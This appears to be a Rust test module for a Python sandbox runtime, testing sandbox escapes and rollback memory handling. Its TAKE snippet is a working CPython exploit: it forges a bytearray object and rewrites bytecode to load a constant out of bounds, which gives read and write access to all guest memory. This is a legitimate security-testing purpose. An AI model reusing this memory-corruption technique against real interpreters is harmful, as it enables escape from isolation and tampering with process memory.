//! A guest that reads and writes all of its linear memory: what an attacker
//! has after the first memory-safety bug of a C extension.

use memex_runtime::Session;
use memex_tests::run;

/// Defines `m`, a `bytearray` over the guest's memory from address 0. Code that
/// loads a constant from behind the end of its constants takes a pointer that
/// the attacker wrote, to an object that the attacker made.
const TAKE: &str = "
import opcode, struct
def take(size):
    fake = struct.pack('<IIIIIIII', 1000, id(bytearray), size, size + 1, 0, 0, 0, 0)
    # The constants that lie highest, so that the index is small: holes far below are filled first.
    functions = [eval(f'lambda: {n}.5') for n in range(2_000)]
    f = max(functions, key=lambda f: id(f.__code__.co_consts))
    holders = [struct.pack('<I', id(fake) + 16) for _ in range(50_000)]
    holder = max(holders, key=id)
    index = (id(holder) - id(f.__code__.co_consts)) // 4
    assert index > 1
    ops = opcode.opmap
    code = bytes((ops['RESUME'], 0))
    for shift in (24, 16, 8):
        code += bytes((ops['EXTENDED_ARG'], index >> shift & 255))
    code += bytes((ops['LOAD_CONST'], index & 255, ops['RETURN_VALUE'], 0))
    f.__code__ = f.__code__.replace(co_code=code)
    return f, fake, holder
";

/// Gives the session's guest its whole memory as `m`, and proves it.
pub(super) fn seize(session: &mut Session) {
    // Room for what follows, so that it comes to lie inside of `size`.
    let outcome = run(
        session,
        "room = [bytes(1 << 16) for _ in range(128)]; del room",
    );
    assert!(outcome.is_ok(), "{outcome:#?}");
    let size = session.memory_bytes();
    for code in [
        TAKE,
        &format!("f, fake, holder = take({size})"),
        "m = f()",
        "proof = b'proof of ' + b'memory'",
    ] {
        let outcome = run(session, code);
        assert!(outcome.is_ok(), "the attack itself failed: {outcome:#?}");
    }
    let outcome = run(
        session,
        "type(m) is bytearray, len(m), m.find(b'proof of ' + b'memory') > 0, bytes(m[id(proof) + 16:id(proof) + 31])",
    );
    let expected = format!("(True, {size}, True, b'proof of memory')");
    assert_eq!(
        outcome.value.as_deref(),
        Some(expected.as_str()),
        "the attack itself failed: {outcome:#?}"
    );
}

/// Descriptors of this process that are the memory of sessions.
#[cfg(target_os = "linux")]
fn heaps() -> usize {
    let open = std::fs::read_dir("/proc/self/fd").unwrap();
    let places = open.filter_map(|entry| std::fs::read_link(entry.unwrap().path()).ok());
    places
        .filter(|place| place.to_string_lossy().contains("memex-heap"))
        .count()
}

#[cfg(target_os = "linux")]
#[test]
#[ignore = "runs in a process of its own: see a_session_that_is_rolled_back_again_and_again_holds_few_descriptors"]
fn rollbacks_between_growth() {
    let mut session = memex_tests::session();
    let small = heaps();
    assert!(run(&mut session, "kept = []").is_ok());
    const ROUNDS: usize = 24;
    for round in 0..ROUNDS {
        let grow = format!("kept.append(bytearray(b'{}') * (1 << 20))", round % 10);
        assert!(run(&mut session, &grow).is_ok());
        assert!(run(&mut session, "import os; os.abort()").rolled_back);
    }
    let check = "[k == bytes([48 + i % 10]) * (1 << 20) for i, k in enumerate(kept)]";
    let all_kept = format!("(True, {ROUNDS})");
    let code = format!("c = {check}\nall(c), len(c)");
    assert_eq!(memex_tests::value_of(&mut session, &code), all_kept);
    // The session grew into files, and into few.
    let held = heaps() - small;
    assert!((1..=5).contains(&held), "{held} descriptors");
    // What lies in none of them is copied, rolled back, saved and restored as well.
    let code = "kept[-1][0] = 7; kept[0][0] = 7; import os; os.abort()";
    assert!(run(&mut session, code).rolled_back);
    assert_eq!(
        memex_tests::value_of(&mut session, &format!("c = {check}\nall(c), len(c)")),
        all_kept
    );
    let snapshot = session.snapshot().unwrap();
    let options = memex_runtime::SessionOptions::default();
    let sandbox = memex_tests::standard_sandbox();
    let generators = memex_runtime::Generators::Fresh;
    let (mut copy, _) = sandbox.restore(&snapshot, generators, options).unwrap();
    assert_eq!(
        memex_tests::value_of(&mut copy, &format!("c = {check}\nall(c), len(c)")),
        all_kept
    );
}

/// A session that is rolled back gets a fresh memory, and grows into a file of its own.
#[cfg(target_os = "linux")]
#[test]
fn a_session_that_is_rolled_back_again_and_again_holds_few_descriptors() {
    let output = std::process::Command::new(std::env::current_exe().unwrap())
        .args([
            "escapes::memory::rollbacks_between_growth",
            "--exact",
            "--ignored",
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success() && stdout.contains("1 passed"),
        "{stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
}
